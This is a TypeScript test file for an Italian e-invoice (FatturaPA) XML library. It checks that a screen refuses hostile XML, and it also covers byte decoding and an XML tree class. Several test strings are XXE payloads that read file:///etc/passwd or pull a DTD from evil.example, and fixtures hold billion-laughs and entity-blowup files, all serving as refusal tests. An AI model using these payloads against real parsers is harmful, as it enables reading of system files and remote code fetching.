/**
 * The pure XML pieces of core/fatturapa: the screen that refuses hostile text before any parser sees
 * it (xml-screen.ts), the refusal constructors (xml-refusals.ts), byte decoding (xml-decode.ts) and
 * the tree (xml-tree.ts). The parser itself is libxml2 (an adapter): its refusals and trees are in
 * test/contract/xsd-validator.contract.ts and test/adapters/fatturapa/xml-reader.test.ts.
 */

import { readFileSync } from 'node:fs'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { ValidationIssue } from '../../core/fatturapa/issue.ts'
import { decodeXmlBytes } from '../../core/fatturapa/xml-decode.ts'
import { screenXml } from '../../core/fatturapa/xml-screen.ts'
import { XmlTreeElement } from '../../core/fatturapa/xml-tree.ts'

/** A bound that only super-linear work (an entity expansion, a quadratic scan) exceeds, whatever the machine's load. */
const CATASTROPHE_MS = 5_000

const fixture = (path: string): string => readFileSync(new URL(`../fixtures/fatturapa/${path}`, import.meta.url), 'utf8')

function refused(xml: string, options?: Parameters<typeof screenXml>[1]): ValidationIssue {
  const issue = screenXml(xml, options)
  if (issue === undefined) throw new Error('passed the screen')
  expect(issue).toMatchObject({ layer: 'xml', severity: 'error', xpath: '/' })
  expect(issue.message.it).toMatch(/^Riga \d+: ./)
  return issue
}

describe('screenXml: hostile text is refused before any parser sees it', () => {
  let fetchSpy: ReturnType<typeof vi.fn>
  beforeEach(() => {
    fetchSpy = vi.fn(() => Promise.reject(new Error('no network')))
    vi.stubGlobal('fetch', fetchSpy)
  })
  afterEach(() => {
    vi.unstubAllGlobals()
    expect(fetchSpy).not.toHaveBeenCalled()
  })

  it('refuses billion laughs (the corpus file) at once, as a DOCTYPE, at its line', () => {
    const t0 = performance.now()
    const issue = refused(fixture('peers/invalid/simevo__billion_laughs.xml'))
    expect(issue.code).toBe('XML-DOCTYPE')
    expect(issue.message.en).toMatch(/^Line 2: /)
    // Not a speed check (that is `npm run bench`'s): an expansion would take minutes, a refusal takes ~2 ms.
    expect(performance.now() - t0).toBeLessThan(CATASTROPHE_MS)
  })

  it('refuses external entities, parameter entities, external DTD subsets and stray declarations', () => {
    const xxe = refused('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>')
    expect([xxe.code, xxe.message.en]).toEqual(['XML-DOCTYPE', expect.stringMatching(/^Line 2: DOCTYPE\/ENTITY declarations/)])
    expect(refused('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>').code).toBe('XML-DOCTYPE')
    expect(refused('<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>').code).toBe('XML-DOCTYPE')
    expect(refused('<!doctype r SYSTEM "file:///etc/passwd"><r/>').code).toBe('XML-DOCTYPE')
    for (const decl of ['ENTITY x "y"', 'ELEMENT r ANY', 'ATTLIST r a CDATA #IMPLIED', 'NOTATION n SYSTEM "x"']) {
      expect(refused(`<r>\n<!${decl}></r>`).message.en, decl).toMatch(/^Line 2: /)
    }
  })

  it('refuses the markers wherever they are, comments and CDATA included (it is not a parser: it only refuses)', () => {
    expect(refused('<r><!-- <!DOCTYPE r> --></r>').code).toBe('XML-DOCTYPE')
    expect(refused('<r><![CDATA[<!ENTITY x "y">]]></r>').code).toBe('XML-DOCTYPE')
    expect(refused('<r>\n<d>see http://www.w3.org/2001/XInclude</d></r>').message.en).toMatch(/^Line 2: XInclude is not allowed/)
    // The first marker in document order wins.
    expect(refused('<r xmlns:xi="http://www.w3.org/2003/XInclude">\n<!DOCTYPE r></r>').code).toBe('XML-XINCLUDE')
  })

  it('refuses every hostile file of the peer corpus', () => {
    for (const f of ['entity_expansion', 'quadratic_blowup', 'recursive_entity', 'small_jumbo', 'embedded_schema']) {
      expect(refused(fixture(`peers/invalid/simevo__${f}.xml`)).code, f).toBe('XML-DOCTYPE')
    }
  })

  it('refuses instructions before the root, skipping <?xml-stylesheet?> only when asked to', () => {
    const styled = '<?xml version="1.0"?>\n<!-- c -->\n<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n<r/>'
    expect(refused(styled).message.en).toBe('Line 3: processing instruction not allowed: <?xml-stylesheet …?>')
    expect(screenXml(styled, { allowXmlStylesheet: true })).toBeUndefined()
    expect(refused('<?xml-stylesheet href="x"?><?php x ?><r/>', { allowXmlStylesheet: true }).message.en).toMatch(/<\?php/)
    expect(refused('<?xml-stylesheet href="x"', { allowXmlStylesheet: true }).code).toBe('XML-PI')
    // What is not in the prolog, and what is malformed, the parser judges (libxml2 refuses a misplaced declaration).
    expect(screenXml('<r><?php x ?></r>')).toBeUndefined()
    expect(screenXml('\n<?xml version="1.0"?><r/>')).toBeUndefined()
    expect(screenXml('<r><a></r>')).toBeUndefined()
  })

  it('refuses a declared encoding the text was not decoded with, and absurd size', () => {
    expect(refused('\uFEFF<?xml version="1.0" encoding="UTF-16"?><r/>').code).toBe('XML-ENCODING')
    expect(refused("<?xml version='1.0' encoding='EBCDIC-CP-US'?><r/>").message.en).toMatch(
      /^Line 1: unsupported declared encoding: EBCDIC-CP-US/,
    )
    for (const ok of ['UTF-8', 'utf8', 'US-ASCII', 'ISO-8859-1', 'latin1', 'windows-1252', 'CP1252'])
      expect(screenXml(`<?xml version="1.0" encoding="${ok}"?><r/>`), ok).toBeUndefined()
    expect(refused('<a>0123456789</a>', { maxChars: 10 }).code).toBe('XML-SIZE')
    expect(refused(`<r>${'x'.repeat(5_000_001)}</r>`).message.en).toMatch(
      /^Line 1: document too large \(5000008 characters, at most 5000000\)/,
    )
  })

  it('lets an ordinary invoice through quickly', () => {
    const xml = fixture('examples/IT01234567890_FPR03.xml')
    expect(screenXml(xml)).toBeUndefined()
    const big = xml.repeat(400) // about 2 MB of markup with no marker: one linear scan
    const t0 = performance.now()
    screenXml(big, { maxChars: 10_000_000 })
    // About 12 ms; a loaded runner took over 100 ms now and then. Only a scan that is not linear would take seconds.
    expect(performance.now() - t0).toBeLessThan(CATASTROPHE_MS)
  })

  it('imports nothing but core modules (no I/O is possible)', () => {
    let imports = 0
    for (const name of ['xml-tree', 'xml-refusals', 'xml-screen', 'xml-decode']) {
      const src = readFileSync(new URL(`../../core/fatturapa/${name}.ts`, import.meta.url), 'utf8')
      const from = [...src.matchAll(/^import [^;]*?from '([^']+)'/gm)].map((m) => m[1])
      for (const path of from) expect(path, name).toMatch(/^\.\/[a-z-]+\.ts$/)
      imports += from.length
    }
    expect(imports).toBeGreaterThan(3)
  })
})

describe('decodeXmlBytes', () => {
  it('decodes by BOM and declaration, and refuses what it cannot decode', () => {
    const latin = Uint8Array.from([
      ...new TextEncoder().encode('<?xml version="1.0" encoding="windows-1252"?><r>caff'),
      0xe8,
      0x80,
      ...new TextEncoder().encode('</r>'),
    ])
    const d = decodeXmlBytes(latin)
    expect(d.ok && d.text.endsWith('<r>caffè€</r>')).toBe(true)
    const utf8 = decodeXmlBytes(Uint8Array.from([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<r>è</r>')]))
    expect(utf8.ok && utf8.text).toBe('<r>è</r>')
    const bad = decodeXmlBytes(Uint8Array.from([...new TextEncoder().encode('<r>'), 0xe8, ...new TextEncoder().encode('</r>')]))
    expect(bad.ok ? 'ok' : bad.issue.code).toBe('XML-MALFORMED')
    const utf16 = decodeXmlBytes(Uint8Array.from([0xff, 0xfe, 0x3c, 0x00]))
    expect(utf16.ok ? 'ok' : utf16.issue.code).toBe('XML-ENCODING')
    const koi = decodeXmlBytes(new TextEncoder().encode('<?xml version="1.0" encoding="KOI8-R"?><r/>'))
    expect(koi.ok ? 'ok' : koi.issue.code).toBe('XML-ENCODING')
    const bomLatin = decodeXmlBytes(
      Uint8Array.from([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<?xml version="1.0" encoding="ISO-8859-1"?><r/>')]),
    )
    expect(bomLatin.ok ? 'ok' : bomLatin.issue.code).toBe('XML-ENCODING')
  })

  it('reads the windows-1252 corpus file like its UTF-8 twin', () => {
    const bytes = readFileSync(new URL('../fixtures/fatturapa/peers/unstated/fenet__IT02182030391_32.windows-1252.xml', import.meta.url))
    const d = decodeXmlBytes(bytes)
    expect(d.ok).toBe(true)
    const twin = fixture('peers/unstated/fenet__IT02182030391_32.xml').replace(/^\uFEFF/, '')
    expect(d.ok && d.text.replace(/encoding="windows-1252"/, 'encoding="utf-8"').slice(0, 2000)).toBe(
      twin.replace(/encoding="[^"]*"/, 'encoding="utf-8"').slice(0, 2000),
    )
  })
})

describe('XmlTreeElement', () => {
  const el = (name: string, parent: XmlTreeElement | null) => {
    const e = new XmlTreeElement(name, null, 1, parent)
    parent?.addChild(e)
    return e
  }

  it('indexes repeated siblings, and the elements FatturaPA lets repeat even when single', () => {
    const root = el('FatturaElettronica', null)
    el('FatturaElettronicaHeader', root)
    const dbs = el('DatiBeniServizi', el('FatturaElettronicaBody', root))
    const [l1, l2, r1] = [el('DettaglioLinee', dbs), el('DettaglioLinee', dbs), el('DatiRiepilogo', dbs)]
    const [x1, x2, y] = [el('X', l1), el('X', l1), el('Y', l1)]
    expect(root.children.map((c) => c.xpath)).toEqual([
      '/FatturaElettronica/FatturaElettronicaHeader',
      '/FatturaElettronica/FatturaElettronicaBody[1]',
    ])
    expect([l1.xpath, l2.xpath, r1.xpath]).toEqual([
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DettaglioLinee[1]',
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DettaglioLinee[2]',
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DatiRiepilogo[1]',
    ])
    expect([x1, x2, y].map((c) => c.xpath.split('/').pop())).toEqual(['X[1]', 'X[2]', 'Y'])
  })

  it('prints as plain data, without its parent', () => {
    const root = new XmlTreeElement('F', 'p', 2, null)
    root.addAttr('versione', 'FPR12')
    const b = root.addChild(new XmlTreeElement('B', null, 3, root))
    b.addText('a ')
    b.addText('b')
    expect(JSON.parse(JSON.stringify(root))).toEqual({
      name: 'F',
      prefix: 'p',
      attrs: { versione: 'FPR12' },
      children: [{ name: 'B', prefix: null, attrs: {}, children: [], text: 'a b', xpath: '/F/B', line: 3 }],
      text: '',
      xpath: '/F',
      line: 2,
    })
  })
})
